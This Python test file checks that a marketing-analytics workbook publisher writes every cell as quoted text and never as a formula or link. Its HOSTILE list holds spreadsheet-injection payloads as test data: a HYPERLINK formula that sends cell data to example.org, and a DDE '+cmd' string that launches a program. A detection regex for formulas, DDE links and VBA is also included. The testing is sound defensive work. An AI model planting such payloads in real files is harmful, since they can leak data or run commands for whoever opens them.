"""The workbook: what people asked for, and nothing that a spreadsheet obeys."""

from __future__ import annotations

import dataclasses
import io
import json
import re
import zipfile
from datetime import date, datetime
from pathlib import Path
from typing import Any

import pytest
from python_calamine import CalamineWorkbook

from funnelhouse.publish import workbook
from funnelhouse.publish.audit import Audit
from funnelhouse.publish.errors import PublishRefused
from funnelhouse.publish.meta_tables import Facts
from funnelhouse.publish.publisher import publish
from funnelhouse.publish.workbook import sheet_plans, verify_workbook, words_of
from funnelhouse.publish.workbook_cells import FORMATS, Column, FilledSheet, workbook_bytes
from funnelhouse.settings import Settings
from funnelhouse.sql import sql_text
from tests.unit.publish.publish_factory import change_build, small_build

HOSTILE = [
    "=HYPERLINK(\"http://example.org/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "＝1+1",
    "https://example.org/offer", "mailto:ann@example.org", "0123", "1e5", "{=SUM(1)}", "_x0041_", "Khuyến mãi ቅናሽ 🎉",
    "a\x07bell", "x" * 40_000,
]  # fmt: skip
LETTERS = "ABCDEFGHIJKLMNOPQRS"


def advice(settings: Settings, campaigns: list[str]) -> None:
    """A build with the table of sheet Advice, one row for each campaign."""
    small_build(settings)
    texts = ", ".join(
        f"null::varchar as {name}"
        for name in ("reason", "verdict", "best_variant", "worst_variant", "effect_unit", "missing", "caution")
    )
    change_build(
        settings,
        "create table marts.mart_recommendation as select 'c' || row_number() over () as campaign_id, "
        f"unnest([{', '.join(map(sql_text, campaigns))}]) as campaign_name, 'budget' as lever, 'v' as variant_kind, "
        "'Raise it?' as question, 'raise' as advice, 12::bigint as cases, 0.25::double as best_rate, "
        "null::double as worst_rate, 1234.5::decimal(18, 2) as spend_change_reporting, 1::double as effect, "
        f"0::double as effect_low, 2::double as effect_high, {texts}",
    )


def sheet(path: Path, name: str) -> list[list[Any]]:
    return CalamineWorkbook.from_path(str(path)).get_sheet_by_name(name).to_python()


def parts(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name).decode() for name in archive.namelist()}


def test_no_cell_is_a_formula_or_a_link_and_every_text_comes_through(settings: Settings) -> None:
    advice(settings, HOSTILE)
    path = publish(settings).path.parent / "workbook.xlsx"
    found = {row[0] for row in sheet(path, "Advice")[1:]}
    assert found == {*HOSTILE[:-1], "x" * 32_766 + "…"}
    for name, content in parts(path).items():
        assert not re.search(r"<f[ >]|<hyperlink|externalLink|<ddeLink|TargetMode|vbaProject", content), name
    # Every text is a shared string, and those that begin like a formula are quoted, so that an edit keeps them texts.
    written = parts(path)
    advice_sheet = next(c for n, c in written.items() if n.startswith("xl/worksheets/") and "t=\"s\"" in c and
                        c.count("<row") == len(HOSTILE) + 1)  # fmt: skip
    cells = re.findall(r'<c r="A(\d+)" s="(\d+)" t="(\w+)"', advice_sheet)
    assert len(cells) == len(HOSTILE) + 1 and {kind for *_, kind in cells} == {"s"}
    quoted = {number for number, style in enumerate(
        re.findall(r"<xf [^>]*>", written["xl/styles.xml"].split("<cellXfs")[1].split("</cellXfs>")[0])
    ) if 'quotePrefix="1"' in style}  # fmt: skip
    names = [row[0] for row in sheet(path, "Advice")]
    guarded = {names[int(row) - 1] for row, style, _ in cells if int(style) in quoted}
    assert guarded == set(HOSTILE[:6])


def test_unknown_is_empty_and_numbers_are_numbers_with_the_format_of_their_unit(settings: Settings) -> None:
    advice(settings, ["Spring"])
    path = publish(settings).path.parent / "workbook.xlsx"
    header, row = sheet(path, "Advice")[:2]
    cells = dict(zip(header, row, strict=True))
    assert cells["Campaign"] == "Spring"
    assert cells["Cases"] == 12 and cells["Best rate"] == 0.25 and cells["Spend change (USD)"] == 1234.5
    assert cells["Worst rate"] == "" and cells["Missing"] == ""
    formats = number_formats(path, row=2)
    shown = {
        name: formats[letter] for name, letter in zip(header, "ABCDEFGHIJKLMNOPQRS", strict=True) if letter in formats
    }
    assert shown["Best rate"] == "0.0%"
    assert shown["Spend change (USD)"] == "#,##0.00"
    assert shown["Cases"] == "#,##0"


def number_formats(path: Path, row: int) -> dict[str, str]:
    """Column letter to the number format of the cells of one row of sheet Advice, which is the second sheet."""
    written = parts(path)
    builtin = {"3": "#,##0", "4": "#,##0.00", "49": "@", "0": "General"}
    codes = builtin | dict(re.findall(r'<numFmt numFmtId="(\d+)" formatCode="([^"]+)"', written["xl/styles.xml"]))
    styles = re.findall(r'<xf numFmtId="(\d+)"', written["xl/styles.xml"].split("<cellXfs")[1])
    cells = re.findall(rf'<c r="([A-Z]+){row}" s="(\d+)"', written["xl/worksheets/sheet2.xml"])
    return {letter: codes[styles[int(style)]] for letter, style in cells}


def test_money_has_the_decimals_of_its_currency(settings: Settings) -> None:
    dong = dataclasses.replace(settings, currency="VND")
    advice(dong, ["Spring"])
    path = publish(dong).path.parent / "workbook.xlsx"
    header = sheet(path, "Advice")[0]
    letter = LETTERS[header.index("Spend change (VND)")]
    assert number_formats(path, row=2)[letter] == "#,##0"


def test_a_sheet_without_its_table_is_left_out_and_the_read_me_and_the_manifest_say_so(settings: Settings) -> None:
    advice(settings, ["Spring"])
    version = publish(settings)
    path = version.path.parent / "workbook.xlsx"
    assert CalamineWorkbook.from_path(str(path)).sheet_names == ["Read me", "Advice", "Data quality", "Columns"]
    read_me = {row[0]: row[1] for row in sheet(path, "Read me")}
    assert read_me["Data through"] == version.as_of and read_me["Version"] == version.version
    assert read_me["Currency"].startswith("USD")
    assert read_me["Checks"] == "Not checked: the numbers were published without the checks."
    assert read_me["Funnel"] == "Left out: this version has no table marts.mart_funnel_monthly."
    manifest = json.loads((version.path.parent / "manifest.json").read_text())
    assert "Funnel" in manifest["workbook"]["left_out"]
    assert {"name": "Advice", "rows": 1, "of": 1} in manifest["workbook"]["sheets"]
    assert "workbook.xlsx" in manifest["files"]


def test_where_a_sheet_is_cut_it_says_so(settings: Settings, monkeypatch: pytest.MonkeyPatch) -> None:
    advice(settings, ["a", "b", "c"])
    plans = tuple(dataclasses.replace(plan, limit=2) for plan in sheet_plans())
    monkeypatch.setattr(workbook, "sheet_plans", lambda: plans)
    path = publish(settings).path.parent / "workbook.xlsx"
    rows = sheet(path, "Advice")
    said = "First 2 of 3 rows. The rest is in marts.mart_recommendation of warehouse.duckdb."
    assert [row[0] for row in rows[1:3]] == ["a", "b"] and rows[-1][0] == said
    assert said.rstrip(".") in {row[0]: row[1] for row in sheet(path, "Read me")}["Advice"]


def test_what_the_checks_found_stands_in_the_read_me() -> None:
    checks = [
        {"outcome": "failed", "severity": severity, "table": f"marts.{severity}", "check": "c",
         "description": "Nothing ends before it begins", "why": "A date is wrong."}
        for severity in ("info", "warning")
    ]  # fmt: skip
    audit = Audit("warn", "2026-10-31", [*checks, {**checks[0], "outcome": "passed"}])
    content = io.BytesIO(workbook_bytes(facts(audit), "USD", [], []))
    rows = CalamineWorkbook.from_filelike(content).get_sheet_by_name("Read me").to_python()
    assert [row[:2] for row in rows if row[0] in ("warning", "info")] == [
        ["warning", "Nothing ends before it begins (marts.warning). A date is wrong."],
        ["info", "Nothing ends before it begins (marts.info). A date is wrong."],
    ]
    assert ["Checks", "Warning: 2 of 3 checks failed, none of them critical. They are below."] in [r[:2] for r in rows]


def facts(audit: Audit) -> Facts:
    return Facts(
        version="20261031T060000Z-abcdef", created_at=datetime.fromisoformat("2026-10-31"), as_of=date(2026, 10, 31),
        audit=audit, tables=[], functions=[], previous_rows={}, log=[], dictionary=[], changelog=[], lineage=[],
    )  # fmt: skip


def test_equal_content_gives_equal_bytes_and_days_before_excels_calendar_are_texts() -> None:
    columns = [Column(n, n, "", None, "", n if n in FORMATS else "date") for n in ("date", "number", "yes_no")]
    days = [date(1850, 1, 1), date(2026, 10, 31)]
    sheet = FilledSheet("Days", "?", (), columns, [(days[0], float("inf"), True), (days[1], 1.5, False)], 2)
    first, second = (workbook_bytes(facts(Audit("pass")), "USD", [sheet], []) for _ in range(2))
    assert first == second
    rows = CalamineWorkbook.from_filelike(io.BytesIO(first)).get_sheet_by_name("Days").to_python()
    assert rows[1:] == [["1850-01-01", "inf", "yes"], [days[1], 1.5, "no"]]


def test_a_workbook_that_lacks_rows_is_refused(settings: Settings, tmp_path: Path) -> None:
    advice(settings, ["Spring"])
    path = publish(settings).path.parent / "workbook.xlsx"
    header = tuple(sheet(path, "Advice")[0])
    verify_workbook(path, workbook.Written({"Advice": (header, 1)}, {"Advice": 1}, []))
    for wanted in ({"Advice": (header, 2)}, {"Advice": (header[1:], 1)}):
        with pytest.raises(PublishRefused, match=r"sheet Advice of workbook\.xlsx"):
            verify_workbook(path, workbook.Written(wanted, {}, []))
    cut = tmp_path / "workbook.xlsx"
    cut.write_bytes(path.read_bytes()[:-900])
    with pytest.raises(PublishRefused, match="does not open again"):
        verify_workbook(cut, workbook.Written({"Advice": (header, 1)}, {}, []))


def test_a_changed_plan_of_the_sheets_gives_a_new_version(
    settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    small_build(settings)
    first = publish(settings)
    changed = tmp_path / "workbook.yml"
    changed.write_bytes(workbook.SPECIFICATION.read_bytes() + b"\n# more\n")
    monkeypatch.setattr(workbook, "SPECIFICATION", changed)
    assert publish(settings).version != first.version


def test_sheets_have_names_that_excel_takes_and_formats_that_exist() -> None:
    plans = sheet_plans()
    assert len({plan.name for plan in plans}) == len(plans)
    for plan in plans:
        assert len(plan.name) <= 31 and not re.search(r"[\[\]:*?/\\]", plan.name)
        said = [*plan.columns.values(), plan.others]
        formats = [column["format"] for column in said if "format" in column]
        assert all(shown in FORMATS for shown in formats if isinstance(shown, str)), plan.name


@pytest.mark.parametrize(
    ("name", "words"),
    [("won_deals", "Won deals"), ("spend_reporting", "Spend"), ("mrr_end", "MRR end"), ("is_complete", "Complete")],
)
def test_a_column_without_a_label_is_called_by_its_words(name: str, words: str) -> None:
    assert words_of(name) == words
